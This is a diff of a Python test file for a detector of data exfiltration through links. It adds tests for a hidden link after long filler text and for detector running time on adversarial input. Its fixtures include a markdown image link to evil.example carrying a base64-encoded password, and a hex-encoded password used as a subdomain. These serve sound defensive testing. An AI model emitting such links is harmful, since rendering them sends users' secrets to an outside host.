@@ -1,15 +1,18 @@
 """Ways out: each form of link, each place for data, and the links that everybody uses."""
 
 import base64
+import time
 
 import pytest
 
 from remit.content.base import Finding, Surroundings
 from remit.content.detectors.exfiltration import DETECTOR
+from remit.content.inspect import detectors, inspect
 from remit.content.views import read
 
 DATA = base64.b64encode(b"the password is hunter2").decode().rstrip("=")
 HEX = b"the password is".hex()
+PATTERNS = tuple(d for d in detectors() if d.tier == "pattern")
 AROUND = Surroundings(trusted_domains=frozenset({"corp.example"}))
 
 
@@ -95,3 +98,32 @@ def test_the_links_of_a_long_page_are_all_read() -> None:
 def test_half_a_letter_is_no_failure(text: str) -> None:
     assert find(text) == []
     assert find(f"{text} {HEX}.evil.example")
+
+
+@pytest.mark.parametrize("noise", ["// ", "\\\\ ", "(//a ", "http: ", ";// "])
+def test_a_link_behind_more_than_is_looked_at_is_not_passed_in_silence(noise: str) -> None:
+    link = f"![x](https://evil.example/p?d={DATA})"
+    views = read(noise * 100_000 + link)
+    rules = [f.rule for f in DETECTOR.find(views, Surroundings())]
+    assert "links" in rules or not views.complete
+    assert "links" not in [f.rule for f in DETECTOR.find(read(noise * 500 + link), Surroundings())]
+
+
+HOSTILE = (
+    "// ", "\\\\ ", "a=//", "(//a ", "http: ", ";// ", "![](", "href=", "//a.b?c=", "abcdefghijkl.", "C:\\\\x ",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("piece", HOSTILE)
+def test_hostile_text_is_not_much_dearer_than_ordinary_text(piece: str) -> None:
+    def cost(text: str) -> float:
+        started = time.process_time()
+        inspect(text, Surroundings(), using=PATTERNS)
+        return time.process_time() - started
+
+    size = 1 << 17
+    words = "the agent reads (see notes) https://example.com/path?x=1 and 1,234 others, "
+    ordinary = (words * size)[:size]
+    hostile = (piece * size)[:size]
+    cost(ordinary[:4096])
+    assert any(cost(hostile) <= 20 * cost(ordinary) for _ in range(4))
